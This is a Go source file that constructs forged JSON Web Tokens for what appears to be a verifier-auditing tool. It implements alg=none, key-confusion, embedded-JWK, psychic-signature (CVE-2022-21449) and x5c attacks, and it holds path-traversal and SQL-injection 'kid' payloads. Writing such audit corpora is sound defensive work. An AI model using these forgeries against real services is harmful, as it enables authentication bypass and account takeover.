package forge

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"errors"
	"fmt"
	"math/big"
	"strings"
	"time"
)

// This file holds the token constructions of the attack corpus, shared by the corpus
// generator (its tests) and by the audit command (Forge). Each takes the header to start from
// as an Object and the exact claims JSON, so a forged token differs from the one it is made
// from only where the attack changes it.

// Compact assembles a compact JWS from the exact header and payload JSON and raw signature.
func Compact(header, payload string, sig []byte) string {
	return seg(header) + "." + seg(payload) + "." + segB(sig)
}

// Unsigned is the token with the header's alg replaced by the given spelling of none and an
// empty signature (RFC 7518 §3.6).
func Unsigned(base Object, payload, none string) string {
	return seg(base.With("alg", none).JSON()) + "." + seg(payload) + "."
}

// UnsignedWithSignature is Unsigned carrying a signature segment anyway, typically one copied
// from a genuine token.
func UnsignedWithSignature(base Object, payload, none, sigSegment string) string {
	return seg(base.With("alg", none).JSON()) + "." + seg(payload) + "." + sigSegment
}

// StripSignature removes the signature of a compact token, keeping the final dot.
func StripSignature(token string) (string, error) {
	p := parts(token)
	if len(p) != 3 {
		return "", fmt.Errorf("a compact JWS has 3 segments, this token has %d", len(p))
	}
	return p[0] + "." + p[1] + ".", nil
}

// ReplacePayload puts other claims under a token's header and signature, as an attacker who
// edits the payload of a genuine token does.
func ReplacePayload(token, payload string) (string, error) {
	p := parts(token)
	if len(p) != 3 {
		return "", fmt.Errorf("a compact JWS has 3 segments, this token has %d", len(p))
	}
	return p[0] + "." + seg(payload) + "." + p[2], nil
}

// HMAC is the token with the header's alg set to an HMAC algorithm (HS256, HS384, HS512) and
// tagged with secret, which may be anything: a public key's bytes for the key-confusion attack,
// nothing for a kid that names /dev/null.
func HMAC(base Object, payload, alg string, secret []byte) string {
	return jws(base.With("alg", alg).JSON(), payload, hs(alg, secret))
}

// Sign signs the header and payload as the header's alg says with key, an *ecdsa.PrivateKey
// (ES256, ES384, ES512), an *rsa.PrivateKey (RS256, RS384, RS512) or a []byte (HS256, HS384,
// HS512). It is the attacker's signature: of no use against a verifier that checks its keys.
func Sign(header Object, payload string, key any) (string, error) {
	alg, ok := header.String("alg")
	if !ok || len(alg) != 5 {
		return "", errors.New("the header has no alg of the form XX256")
	}
	input := seg(header.JSON()) + "." + seg(payload)
	var sig []byte
	var err error
	switch k := key.(type) {
	case *ecdsa.PrivateKey:
		sig, err = signES(alg, k, input)
	case *rsa.PrivateKey:
		sig, err = signRS(alg, k, input)
	case []byte:
		sig = hs(alg, k)(input)
	default:
		return "", fmt.Errorf("cannot sign with a %T", key)
	}
	if err != nil {
		return "", err
	}
	return input + "." + segB(sig), nil
}

// EmbeddedJWK is the token signed by the attacker's P-256 key and carrying that key's public
// JWK in the jwk header (CVE-2018-0114). With a kid, the header names it and the embedded key
// claims it; without one, the embedded key's kid is attacker-1.
func EmbeddedJWK(base Object, payload string, attacker *ecdsa.PrivateKey, kid string) (string, error) {
	h := base.With("alg", "ES256")
	jwkKid := "attacker-1"
	if kid != "" {
		h = h.With("kid", kid)
		jwkKid = kid
	}
	return Sign(h.With("jwk", ecJWK(&attacker.PublicKey, jwkKid)), payload, attacker)
}

// Psychic is the token with the header's alg set to an ECDSA algorithm and the signature
// r = s = 0 (CVE-2022-21449).
func Psychic(base Object, payload, alg string) (string, error) {
	size := map[string]int{"ES256": 32, "ES384": 48, "ES512": 66}[alg]
	if size == 0 {
		return "", fmt.Errorf("%s is not an ECDSA algorithm", alg)
	}
	return Compact(base.With("alg", alg).JSON(), payload, make([]byte, 2*size)), nil
}

// PsychicOrder is the ES256 token with r = s = n, the order of P-256, which is 0 modulo n.
func PsychicOrder(base Object, payload string) string {
	n := elliptic.P256().Params().N
	return Compact(base.With("alg", "ES256").JSON(), payload, rawECDSA(elliptic.P256(), n, n))
}

// SelfSignedCert makes a self-signed X.509 certificate (DER) for key, as an attacker puts in
// x5c or serves at x5u. It is valid from a day before now for a year.
func SelfSignedCert(key *ecdsa.PrivateKey, now time.Time) ([]byte, error) {
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(4242),
		Subject:      pkix.Name{CommonName: "issuer.example"},
		NotBefore:    now.Add(-24 * time.Hour),
		NotAfter:     now.Add(365 * 24 * time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return nil, fmt.Errorf("making a self-signed certificate: %w", err)
	}
	return der, nil
}

// X5C is the token signed by the attacker's P-256 key and carrying its self-signed
// certificate in x5c (RFC 7515 §4.1.6).
func X5C(base Object, payload string, attacker *ecdsa.PrivateKey, certDER []byte) (string, error) {
	return Sign(base.With("alg", "ES256").With("x5c", []string{base64.StdEncoding.EncodeToString(certDER)}), payload, attacker)
}

// PathTraversalKids are kid values that make a verifier reading its key from the file named by
// kid read /dev/null, an empty HMAC key.
var PathTraversalKids = []struct{ Name, Kid string }{
	{"kid-path-traversal", "../../../../../../dev/null"},
	{"kid-dev-null", "/dev/null"},
}

// SQLInjectionKid is a kid that makes a verifier looking kid up in an SQL table use
// SQLInjectionSecret as the key.
const (
	SQLInjectionKid    = "x' UNION SELECT 'attacker-secret-attacker-secret!!' -- "
	SQLInjectionSecret = "attacker-secret-attacker-secret!!"
)

// trimNewline drops one final newline.
func trimNewline(b []byte) []byte { return []byte(strings.TrimSuffix(string(b), "\n")) }
